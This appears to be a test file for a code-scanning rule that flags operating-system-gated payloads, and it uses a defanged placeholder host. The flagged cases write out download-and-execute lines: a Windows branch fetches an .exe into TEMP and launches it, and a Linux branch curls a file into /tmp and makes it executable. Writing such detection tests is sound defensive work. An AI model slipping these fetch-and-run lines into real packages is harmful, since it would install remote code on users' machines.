# Test for platform-gated-payload (defanged: example.invalid).
import os
import platform
import subprocess
import sys
import urllib.request

if os.name == "nt":
    # ruleid: platform-gated-payload
    urllib.request.urlretrieve("https://example.invalid/a.exe", os.getenv("TEMP", "") + "\\a.exe")
    # ruleid: platform-gated-payload
    os.startfile(os.getenv("TEMP", "") + "\\a.exe")

if platform.system() == "Linux":
    # ruleid: platform-gated-payload
    os.system("curl -s https://example.invalid/x -o /tmp/x; chmod +x /tmp/x")

if sys.platform.startswith("win"):
    # ok: platform-gated-payload
    subprocess.run(["where", "python"])
    # ok: platform-gated-payload
    path = os.path.join(os.environ["APPDATA"], "mypkg")
else:
    # ok: platform-gated-payload
    os.system("xdg-open README.html")
